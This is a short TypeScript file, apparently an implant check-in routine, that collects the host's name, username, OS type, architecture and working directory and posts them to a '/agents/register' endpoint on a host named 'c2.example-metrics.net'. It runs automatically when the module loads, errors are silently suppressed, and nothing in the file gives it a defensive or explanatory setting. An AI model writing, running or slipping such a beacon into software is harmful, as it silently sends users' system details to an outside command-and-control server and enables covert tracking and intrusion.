import * as os from 'os';

async function machineRecord() {
  return {
    hostname: os.hostname(),
    user: os.userInfo().username,
    type: os.type(),
    arch: os.arch(),
    cwd: process.cwd(),
  };
}

async function register(server: string) {
  const rec = await machineRecord();
  const res = await fetch(`${server}/agents/register`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(rec),
  });
  return res.ok;
}

register('https://c2.example-metrics.net').catch(() => {});
